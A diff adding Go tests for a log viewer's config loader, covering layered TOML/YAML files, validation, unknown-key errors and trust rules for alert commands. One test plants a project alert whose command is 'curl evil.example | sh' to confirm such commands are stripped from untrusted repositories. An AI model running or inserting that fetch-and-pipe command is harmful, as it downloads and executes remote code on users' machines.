@@ -0,0 +1,182 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+)
+
+func writeFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestLoadLayering(t *testing.T) {
+	root := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(root, "xdg"))
+
+	writeFile(t, filepath.Join(root, "xdg", "lv", "config.toml"), `
+wrap = true
+timezone = "Europe/Paris"
+
+[levels]
+error = ["ERROR", "FATAL"]
+
+[stream]
+stdin_flush_every = "10ms"
+`)
+	writeFile(t, filepath.Join(root, "project", ".lv.toml"), `
+wrap = false
+format = "json"
+`)
+	workDir := filepath.Join(root, "project", "sub", "dir")
+	if err := os.MkdirAll(workDir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, files, err := Load(workDir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(files) != 2 {
+		t.Fatalf("Expected user and project config, got %v", files)
+	}
+
+	if cfg.Wrap {
+		t.Error("Project config should override the user config")
+	}
+	if cfg.Timezone != "Europe/Paris" || cfg.Format != "json" {
+		t.Errorf("Unexpected merged values: timezone=%q format=%q", cfg.Timezone, cfg.Format)
+	}
+	if !reflect.DeepEqual(cfg.Levels.Error, []string{"ERROR", "FATAL"}) {
+		t.Errorf("Unexpected error keywords %v", cfg.Levels.Error)
+	}
+	if !reflect.DeepEqual(cfg.Levels.Warn, []string{"WARN"}) {
+		t.Error("Unset keys should keep their defaults")
+	}
+	if cfg.Stream.StdinFlushEvery.Duration != 10*time.Millisecond || cfg.Stream.FileBatchLines != 5000 {
+		t.Errorf("Unexpected stream settings %+v", cfg.Stream)
+	}
+}
+
+func TestLoadYAML(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	writeFile(t, path, `
+follow: "on"
+columns: [time, level, msg]
+stream:
+  file_flush_every: 2s
+export:
+  dir: /tmp/exports
+`)
+
+	cfg, err := LoadFiles(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.Follow != "on" || len(cfg.Columns) != 3 || cfg.Export.Dir != "/tmp/exports" {
+		t.Errorf("Unexpected YAML config %+v", cfg)
+	}
+	if cfg.Stream.FileFlushEvery.Duration != 2*time.Second {
+		t.Errorf("Expected 2s flush, got %v", cfg.Stream.FileFlushEvery)
+	}
+}
+
+func TestValidate(t *testing.T) {
+	path := filepath.Join(t.TempDir(), ".lv.toml")
+	writeFile(t, path, `osc52 = "sometimes"`)
+	if _, err := LoadFiles(path); err == nil {
+		t.Error("Expected invalid osc52 value to be rejected")
+	}
+
+	cfg := Default()
+	cfg.Timezone = "Mars/Olympus"
+	if err := cfg.Validate(); err == nil {
+		t.Error("Expected unknown timezone to be rejected")
+	}
+
+	cfg = Default()
+	cfg.Trace.Patterns = []string{`cid=(`}
+	if err := cfg.Validate(); err == nil {
+		t.Error("Expected an invalid trace pattern to be rejected")
+	}
+
+	cfg = Default()
+	cfg.Alerts = []Alert{{Pattern: "5\\d\\d", Count: 10}}
+	if err := cfg.Validate(); err == nil {
+		t.Error("Expected an alert count without a window to be rejected")
+	}
+}
+
+func TestLoadFilesErrors(t *testing.T) {
+	dir := t.TempDir()
+	if _, err := LoadFiles(filepath.Join(dir, "typo.toml")); err == nil {
+		t.Error("Expected a missing config file to be an error")
+	}
+
+	path := filepath.Join(dir, "config.toml")
+	writeFile(t, path, "wrap = true\n[stream]\nfile_flush_evry = \"1s\"\n")
+	if _, err := LoadFiles(path); err == nil || !strings.Contains(err.Error(), `"stream.file_flush_evry"`) {
+		t.Errorf("Expected the unknown TOML key to be reported, got %v", err)
+	}
+
+	path = filepath.Join(dir, "config.yaml")
+	writeFile(t, path, "wrapp: true\n")
+	if _, err := LoadFiles(path); err == nil || !strings.Contains(err.Error(), "wrapp") {
+		t.Errorf("Expected the unknown YAML key to be reported, got %v", err)
+	}
+
+	writeFile(t, path, "")
+	if _, err := LoadFiles(path); err != nil {
+		t.Errorf("Expected an empty YAML file to be fine, got %v", err)
+	}
+}
+
+func TestProjectAlertCommands(t *testing.T) {
+	root := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(root, "xdg"))
+	user := filepath.Join(root, "xdg", "lv", "config.toml")
+	project := filepath.Join(root, "repo", ".lv.toml")
+	writeFile(t, project, `
+project_commands = true
+
+[[alert]]
+name = "pwn"
+pattern = "ERROR"
+command = "curl evil.example | sh"
+`)
+
+	cfg, _, err := Load(filepath.Join(root, "repo"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(cfg.Alerts) != 1 || cfg.Alerts[0].Command != "" || cfg.ProjectCommands {
+		t.Errorf("Expected the project's alert without its command, got %+v", cfg.Alerts)
+	}
+	if len(cfg.Warnings) != 1 || !strings.Contains(cfg.Warnings[0], "alert commands ignored") {
+		t.Errorf("Expected a warning about the ignored command, got %q", cfg.Warnings)
+	}
+
+	writeFile(t, user, "project_commands = true\n")
+	cfg, _, err = Load(filepath.Join(root, "repo"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.Alerts[0].Command == "" || len(cfg.Warnings) != 0 {
+		t.Error("Expected the user config to allow project commands")
+	}
+
+	// An explicit --config file is trusted.
+	cfg, err = LoadFiles(project)
+	if err != nil || cfg.Alerts[0].Command == "" {
+		t.Errorf("Expected --config to keep the command, got %+v %v", cfg.Alerts, err)
+	}
+}